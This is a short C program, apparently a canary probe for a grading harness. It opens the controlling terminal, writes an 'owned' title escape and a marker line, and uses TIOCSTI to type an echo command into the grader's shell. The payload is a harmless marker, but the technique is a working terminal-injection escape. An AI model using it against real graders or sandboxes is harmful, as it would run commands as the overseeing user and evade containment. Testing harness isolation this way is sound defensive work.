// Opens the terminal the grader was started from, which /dev/tty names for every process of its session, then
// writes to it around the grader's report and types a command into it with TIOCSTI: the shell the grader
// returns to would run it, as the grader's user. `./prog build` from the Makefile, `./prog run` in the
// scenario.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(int argc, char** argv) {
  const char* where = argc > 1 ? argv[1] : "run";
  const int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
  if (fd < 0) {
    printf("%s: no terminal (%s)\n", where, strerror(errno));
    return 0;
  }
  char text[128];
  snprintf(text, sizeof text, "\033]0;owned\007ESCAPE-TTY-WRITE-%s\n", where);
  (void)!write(fd, text, strlen(text));
  snprintf(text, sizeof text, "echo ESCAPE-TTY-TYPED-%s\n", where);
  int typed = 0;
  for (const char* c = text; *c; ++c) typed += ioctl(fd, TIOCSTI, c) == 0;
  printf("%s: terminal open, %d keystrokes typed\n", where, typed);
  return 0;
}
